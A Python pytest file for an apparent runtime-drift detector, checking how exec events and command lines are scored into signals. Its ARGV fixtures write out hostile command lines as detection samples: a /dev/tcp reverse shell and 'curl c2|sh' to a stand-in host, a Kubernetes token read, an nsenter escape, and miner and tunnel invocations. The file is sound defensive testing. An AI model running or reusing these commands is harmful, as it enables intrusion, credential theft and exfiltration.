"""Priorities: each signal is found where its row in the table says, and nothing in an event can break scoring."""

from __future__ import annotations

import datetime as dt
from typing import Any

import msgspec
import pytest

from drift.alerts.domain.argv_patterns import PATTERNS, argv_signals, attack_tool, only_asks_version
from drift.alerts.domain.exec_signals import BUILDS, exec_signals
from sensor import wire
from tests.unit.drift.alerts.conftest import event, now

TODAY = dt.date(2026, 11, 29)
AT = now()
"""When every event of these tests is: how long before it a file was written does not depend on how long they take."""


def names(outcome: str = "none", **changes: Any) -> set[str]:
    """Return the names of an event's signals; `changes` as in conftest.event, over a plain one."""
    plain = {"process__path": "/opt/app/tool", "process__name": "tool", "process__argv": ["tool"], "process__uid": 1000}
    quiet = {"at": AT, "process__parent": {"name": "init", "pid": 1}, "process__ancestors": []}
    return {
        name for name, _ in exec_signals(msgspec.convert(event(**{**plain, **quiet, **changes}), wire.Event), outcome)
    }


def written(name: str, seconds: float = 3, path: str | None = None, parent: str | None = None) -> dict[str, Any]:
    at = (AT - dt.timedelta(seconds=seconds)).isoformat()
    return {"name": name, "pid": 9, "path": path, "at": at, "parent": {"name": parent, "pid": 8} if parent else None}


def test_a_plain_file_gives_no_signal() -> None:
    assert names() == set()


@pytest.mark.parametrize("known", [{}, {"session": "workload"}, {"session": "workload", "writer_origin": "image"}])
def test_what_the_workload_does_and_what_is_unknown_give_no_signal_of_people(known: dict[str, str]) -> None:
    assert names(process__provenance=known) == set()


def test_a_shell_that_shows_a_person_counts_once() -> None:
    found = names(process__parent={"name": "bash", "pid": 7}, process__provenance={"session": "exec"})

    assert found == {"interactive", "by_hand"}


@pytest.mark.parametrize("name", ["dpkg", "npm", "link", "tool-updater", "containerd"])
def test_no_name_of_a_drifted_writer_lowers(name: str) -> None:
    wrote = written(name, parent="go" if name == "link" else None)
    found = names(process__written_by=wrote, process__provenance={"writer_origin": "drift"})

    assert found == {"drifted_writer"}


def test_one_fact_counts_once() -> None:
    found = names(process__path="/srv/node_modules/a/bin/a", process__written_by=written("npm"))

    assert "installed" in found
    assert "build_place" not in found


def test_a_library_that_a_program_has_compiled_for_itself_is_not_foreign() -> None:
    library = {"kind": "library", "process__via": "/usr/bin/python3.12", "process__path": "/tmp/a/b.so"}

    assert "foreign_library" not in names(**library, process__written_by=written("g++", parent="python3"))
    assert "foreign_library" in names(**library, process__written_by=written("g++", parent="sh"))
    assert "foreign_library" in names(**library, process__written_by=written("sh", parent="python3"))


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"kind": "fileless", "process__path": "/memfd:a"}, "fileless"),
        ({"kind": "replaced"}, "replaced"),
        ({"kind": "loader"}, "loader"),
        ({"kind": "foreign_mount"}, "foreign_mount"),
        ({"kind": "script"}, "script"),
        ({"kind": "volume"}, "routine_kind"),
        ({"kind": "interpreter"}, "routine_kind"),
        ({"kind": "copy_of_image_file", "process__copy_of": "/bin/bash"}, "renamed_copy"),
        ({"process__written_by": written("curl")}, "downloaded"),
        ({"process__written_by": written("php-fpm")}, "written_by_service"),
        ({"process__written_by": written("java")}, "written_by_runtime"),
        ({"process__written_by": written("dpkg")}, "installed"),
        ({"process__written_by": written("tar", parent="npm")}, "installed"),
        ({"process__written_by": written("link", parent="go")}, "built"),
        ({"process__written_by": written("tool-updater")}, "unpacked"),
        ({"process__written_by": written("dpkg"), "process__provenance": {"writer_origin": "drift"}}, "drifted_writer"),
        ({"process__provenance": {"session": "exec"}}, "entered"),
        ({"process__provenance": {"session": "workload", "written_in_session": "exec"}}, "planted"),
        ({"kind": "library", "process__written_by": written("gcc")}, "foreign_library"),
        ({"process__parent": {"name": "nginx", "pid": 7}}, "service_child"),
        ({"process__ancestors": [{"name": "sh", "pid": 7}, {"name": "redis-server", "pid": 1}]}, "service_child"),
        ({"process__parent": {"name": "python3.12", "pid": 7}}, "runtime_child"),
        ({"process__parent": {"name": "cargo", "pid": 7}}, "build_child"),
        ({"process__parent": {"name": "bash", "pid": 7}}, "interactive"),
        ({"process__path": "/dev/shm/a"}, "memory_place"),
        ({"process__path": "/tmp/a"}, "temporary_place"),
        ({"process__path": "/var/www/html/a"}, "web_place"),
        ({"process__path": "/opt/.x/a"}, "hidden_name"),
        ({"process__path": "/opt/.a"}, "hidden_name"),
        ({"process__path": "/opt/kube-proxy"}, "disguised"),
        ({"process__path": "/opt/a.png"}, "disguised"),
        ({"process__argv": ["[kworker/0:1]"]}, "kernel_thread"),
        ({"process__path": "/opt/nmap"}, "dual_use_tool"),
        ({"process__sha256": None, "process__hash_status": "gone"}, "gone"),
        ({"process__written_by": written("base64")}, "decoded"),
        ({"process__path": "/opt/app/img/tool"}, "data_place"),
        (
            {"process__path": "/opt/a/python3", "process__name": "python3", "process__written_by": written("wget")},
            "wrong_name",
        ),
        ({"kind": "copy_of_image_file"}, "copied"),
        ({"process__path": "/tmp/аpt"}, "lookalike"),
        ({"process__path": "/usr/lib/x/a"}, "system_place"),
        ({"process__path": "/srv/node_modules/.bin/a"}, "build_place"),
        ({"container__namespace": "kube-system"}, "system_namespace"),
        ({"container__namespace": "team-ci"}, "build_namespace"),
        ({"process__path": "/opt/xmrig-6.21-linux"}, "attack_tool"),
        ({"process__argv": ["tool", "--version"]}, "asks_version"),
        ({"process__uid": 0}, "root"),
        ({"outcome": "blocked"}, "blocked"),
        ({"outcome": "not_blocked"}, "not_blocked"),
    ],
)
def test_a_signal_is_found(changes: dict[str, Any], expected: str) -> None:
    assert expected in names(changes.pop("outcome", "none"), **changes)


ARGV = {
    "miner": "a -o stratum+tcp://pool:3333",
    "tunnel": "chisel client c2:443 R:socks",
    "reverse_shell": "bash -c exec 5<>/dev/tcp/c2/443",
    "bare_address": "a 185.220.101.7 443",
    "credentials": "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "scan": "a 10.0.0.0/8 -p22",
    "escape": "nsenter --target 1 sh",
    "runtime_socket": "curl --unix-socket /var/run/docker.sock",
    "encoded": "sh -c curl c2|sh",
    "memory_file": "worker --config /dev/shm/c.json",
    "outside_address": "helper --to https://metrics.example.io/v1",
    "key_store": "helper -f /work/upload-keystore.jks",
    "ransom": "a --path /srv --ext .lck9 --threads 8",
    "detached": "helper --detach",
    "hidden_file": "a --config /tmp/.a.conf",
    "exfiltration": "sync copy /srv/data remote:bucket/archive",
    "data_files": "enc -r /var/lib/mysql",
    "offers_shell": "a --to wss://c2 --exec /bin/bash",
    "calls_home": "a --relay wss://c2/ws",
    "outside_host": "a -c cdn.example.press:8443",
    "secret_file": "a dump wp-config.php",
    "seeks_secrets": "a --grep isSecret",
    "reads_memory": "a --pid 1 --ranges heap,anon",
    "guesses": "a -U users.txt -P top.txt -R 10.20.0.0/16:22",
    "network_range": "a -net 10.20.0.0/16 -o /var/tmp/a",
    "loads_code": "insmod /mnt/a.ko",
    "controller": "a -m tcp -a 3 -t 4:hold -r 4021 10.72.4.31 0 0",
}


@pytest.mark.parametrize("name", PATTERNS)
def test_each_argv_pattern_has_a_line_that_it_finds(name: str) -> None:
    assert name in argv_signals(ARGV[name].split(" "))


@pytest.mark.parametrize(
    "line",
    [
        "kube-proxy --cluster-cidr=10.0.0.0/16",
        "agent --server 10.1.2.3:443 --log-level info",
        "pg_restore --jobs 4 dump.tar",
        "java -jar app.jar --port 8080",
        "node server.js --socket /run/app.sock",
        "curl -fsS http://127.0.0.1:8080/healthz",
        "go test ./... -run TestChisel",
        "aws s3 sync /backup s3://corp-backup/daily",
        "skopeo copy docker://a/b:1 docker://c/b:1",
        "git put https://example.com/x",
        "rsync -a sync /srv/data/ /mnt/backup/",
    ],
)
def test_everyday_command_lines_match_no_pattern(line: str) -> None:
    """An address alone is of a tool that fetches, which is known by its name."""
    assert set(argv_signals(line.split(" "))) <= {"outside_address"}


def test_a_process_that_calls_itself_a_package_manager_is_not_one() -> None:
    """PR_SET_NAME is free: the path of its file tells."""
    assert "installed" not in names(process__written_by=written("dpkg", path="/tmp/.x/dropper"))
    assert "installed" not in names(process__written_by=written("dpkg", path="/tmp/dpkg"))
    assert "installed" in names(process__written_by=written("dpkg", path="/usr/bin/dpkg"))
    assert "installed" in names(process__written_by=written("pip", path="/usr/bin/python3.12"))
    assert "build_child" not in names(process__parent={"name": "cargo", "pid": 7, "path": "/dev/shm/cargo"})


def below(*programs: str) -> dict[str, Any]:
    """Return parent and ancestors with these names, nearest first."""
    line = [{"name": name, "pid": 900 - place} for place, name in enumerate(programs)]
    return {"process__parent": line[0], "process__ancestors": line[1:]}


def test_a_library_is_unpacked_by_the_program_that_loads_it_and_by_no_other() -> None:
    """The parent is the shell that started `ls`: it loads nothing."""
    preloaded: dict[str, Any] = {
        "kind": "library",
        "process__via": "/bin/ls",
        "process__written_by": written("sh", parent="gunicorn"),
    }
    hidden = names(**preloaded, **below("sh", "gunicorn"))
    unpacked = names(kind="library", process__via="/usr/bin/python3.12", process__written_by=written("python3"))

    assert {"foreign_library", "service_child"} <= hidden
    assert "unpacked" not in hidden
    assert "unpacked" in unpacked


@pytest.mark.parametrize("server", ["redis-server", "mysqld", "postgres"])
def test_a_server_that_loads_a_library_that_it_wrote_unpacks_nothing(server: str) -> None:
    via = f"/usr/sbin/{server}"
    found = names(kind="library", process__via=via, process__written_by=written(server, path=via))

    assert {"own_library", "server_library"} <= found
    assert "unpacked" not in found


@pytest.mark.parametrize("writer", ["curl", "cp", "sh", "php-fpm", "node"])
def test_a_file_named_like_what_wrote_it_is_not_its_update(writer: str) -> None:
    assert "unpacked" not in names(process__name=writer, process__written_by=written(writer))


@pytest.mark.parametrize("kind", ["volume", "interpreter", "image_volume"])
def test_what_was_written_just_before_is_not_what_a_deployment_mounts(kind: str) -> None:
    """A server's data directory is always on a volume."""
    dropped = names(kind=kind, process__written_by=written("postgres"), **below("sh", "postgres", "postgres"))
    mounted = names(kind=kind, process__written_by=written("postgres", 3_600), **below("sh", "postgres"))

    assert {"service_child", "written_by_service", "written_and_run"} <= dropped
    assert "routine_kind" not in dropped
    assert "routine_kind" in mounted
    assert "service_child" not in mounted
    assert "routine_kind" not in names(kind=kind, process__argv=["rclone", "copy", "/srv/data", "remote:bucket"])


@pytest.mark.parametrize("init", ["tini", "dumb-init", "runc", "containerd"])
def test_what_an_init_or_runtime_started_is_not_installed_by_it(init: str) -> None:
    assert "installed" not in names(process__written_by=written("cp", parent=init))


def test_only_tektons_entrypoint_is_a_runner() -> None:
    tekton: dict[str, Any] = {"name": "entrypoint", "pid": 2, "path": "/tekton/bin/entrypoint"}

    assert "build_child" in names(process__parent=tekton)
    assert "build_child" not in names(process__parent={**tekton, "path": "/usr/bin/entrypoint"})
    assert "build_child" not in names(process__parent={**tekton, "path": None})


def test_the_namespace_of_a_ci_server_is_not_one_of_builds() -> None:
    assert not any("build_namespace" in names(container__namespace=each) for each in ("gitlab", "jenkins", "drone"))
    assert "build_namespace" in names(container__namespace="gitlab-ci")


def test_a_package_manager_above_a_server_lowers_nothing() -> None:
    assert "service_child" in names(**below("sh", "gunicorn", "poetry"))
    assert "runtime_child" in names(**below("sh", "node", "npm"))
    assert "build_child" in names(**below("sh", "node", "npm", "sh"))


def test_a_session_below_a_login_daemon_is_interactive_and_what_the_daemon_starts_is_not() -> None:
    assert names(**below("bash", "tmux", "sshd")) == {"interactive", "by_hand"}
    assert names(**below("bash", "sshd", "sshd", "tini", "supervisord")) == {"interactive", "by_hand"}
    assert names(**below("sshd")) == {"service_child"}
    assert "service_child" in names(**below("bash", "nginx", "sshd"))


@pytest.mark.parametrize("service", ["node", "java", "php-fpm", "postgres", "gunicorn"])
def test_a_blocked_file_that_a_shell_of_a_service_fetched_at_once_leads(service: str) -> None:
    sent: dict[str, Any] = {"process__path": "/tmp/fghgf", "process__written_by": written("wget", 1, parent="sh")}
    found = names("blocked", **sent, **below("sh", service))

    assert "written_and_run" in found
    assert "written_and_run" not in names(
        **{**sent, "process__written_by": written("wget", 90)}, **below("sh", service)
    )
    assert "written_and_run" not in names(**{**sent, "process__written_by": written("dpkg")}, **below("sh", service))


def test_what_builds_do_does_not_lower_what_is_named_like_an_attack() -> None:
    below_npm: dict[str, Any] = {**below("node", "npm", "sh"), "container__namespace": "ci"}
    found = names(process__path="/root/.cache/node_modules/trufflehog", **below_npm)

    assert "dual_use_tool" in found
    assert not found & {"build_child", "build_place", "build_namespace"}


@pytest.mark.parametrize("path", ["/usr/sbin/sshd", "/bin/su", "/lib/x86_64-linux-gnu/security/pam_unix.so"])
def test_a_login_program_that_no_package_manager_wrote_counts(path: str) -> None:
    assert "login_program" in names(kind="replaced", process__path=path, process__written_by=written("cp"))
    assert "login_program" not in names(kind="replaced", process__path=path, process__written_by=written("dpkg"))
    assert "login_program" not in names(process__path=f"/opt/backup{path}".replace("/usr/sbin", "").replace("/bin", ""))


@pytest.mark.parametrize("path", ["/etc/cron.hourly/0clean", "/etc/periodic/daily/a", "/etc/init.d/a"])
def test_a_file_that_the_system_starts_counts_unless_it_was_installed(path: str) -> None:
    assert "start_place" in names(kind="script", process__path=path, process__written_by=written("sh"))
    assert "start_place" not in names(kind="script", process__path=path, process__written_by=written("dpkg"))


def test_a_script_where_the_system_starts_programs_is_not_lowered_for_being_one() -> None:
    assert "script" not in names(
        kind="script", process__path="/etc/cron.daily/clean", process__written_by=written("sh")
    )
    assert "script" in names(kind="script", process__path="/opt/clean", process__written_by=written("sh"))


@pytest.mark.parametrize(("writer", "counts"), [("bash", True), ("cp", True), ("curl", True), ("python3", False)])
def test_what_a_shell_or_a_copy_put_where_the_system_starts_programs_counts_more(writer: str, counts: bool) -> None:
    sent: dict[str, Any] = {"kind": "script", "process__written_by": written(writer, 90_000)}

    assert ("placed_by_hand" in names(process__path="/etc/cron.daily/clean", **sent)) is counts
    assert "placed_by_hand" not in names(process__path="/opt/clean", **sent)


def test_what_a_service_wrote_and_started_itself_counts() -> None:
    sent: dict[str, Any] = {"process__path": "/var/lib/app/.cache/font/fc", "process__written_by": written("java", 9)}

    assert "started_by_writer" in names(**sent, **below("java", "tini"))
    assert "started_by_writer" in names(**sent, kind="volume", **below("java", "tini"))
    assert "started_by_writer" not in names(**{**sent, "process__written_by": written("java", 90)}, **below("java"))
    assert "started_by_writer" not in names(**{**sent, "process__written_by": written("cp", 9)}, **below("java"))
    assert "started_by_writer" not in names(**sent, **below("sh", "java"))
    for environment in ("/opt/env/bin/python3.10", "/app/node_modules/esbuild/bin/esbuild"):
        assert "started_by_writer" not in names(**{**sent, "process__path": environment}, **below("java"))
    assert "started_by_writer" not in names(**sent, **below("java", "gradle"))


def test_a_shell_below_a_converter_counts_as_writer_and_as_parent() -> None:
    assert "below_parser" in names(process__written_by=written("sh", parent="exiftool"))
    assert "below_parser" in names(**below("sh", "convert", "php-fpm"))


def test_a_download_in_a_system_namespace_counts() -> None:
    download: dict[str, Any] = {"process__written_by": written("wget")}

    assert "system_download" in names(**download, container__namespace="kube-system")
    assert "system_download" not in names(**download, container__namespace="shop")


def test_only_a_copy_of_a_known_file_can_have_another_name() -> None:
    assert "renamed_copy" not in names(kind="copy_of_image_file")
    assert names(kind="copy_of_image_file", process__copy_of="/usr/bin/tool") == set()


def test_what_a_decoder_writes_counts_but_for_scripts_and_where_the_decoder_is_drift() -> None:
    wrote: dict[str, Any] = {"process__written_by": written("xxd")}

    assert "decoded" not in names(kind="script", **wrote)
    assert "decoded" not in names(**wrote, process__provenance={"writer_origin": "drift"})


def test_a_library_in_a_cache_of_a_runtime_is_not_hidden_but_one_with_a_hidden_name_is() -> None:
    assert "hidden_name" not in names(kind="library", process__path="/root/.triton/a/b.so")
    assert "hidden_name" in names(kind="library", process__path="/root/.triton/a/.b.so")
    assert "hidden_name" in names(process__path="/root/.triton/a/b")


def test_a_file_in_memory_counts_once() -> None:
    elsewhere = names(process__argv=["tool", "--config", "/dev/shm/c.json"])
    itself = names(process__path="/dev/shm/a", process__argv=["/dev/shm/a"])

    assert "memory_file" in elsewhere
    assert "memory_file" not in itself


def test_only_a_fresh_download_counts_as_one() -> None:
    assert "downloaded" not in names(process__written_by=written("curl", seconds=900))


@pytest.mark.parametrize("tool", ["xmrig", "XMRig", "chisel_1.9", "linpeas.sh", "cdk-linux-amd64"])
def test_attack_tools_are_known_by_name(tool: str) -> None:
    assert attack_tool(tool)


def test_an_empty_or_long_argv_asks_for_no_version() -> None:
    assert not only_asks_version([])
    assert not only_asks_version(["tool"])
    assert not only_asks_version(["tool", "--version", "run"])


def test_starter_directory_and_namespace_of_a_build_are_one_fact() -> None:
    everything = names(
        process__path="/srv/node_modules/.bin/a",
        process__parent={"name": "npm", "pid": 1},
        process__ancestors=[{"name": "bash", "pid": 2}],
        container__namespace="team-ci",
    )

    assert everything & BUILDS == {"build_child"}
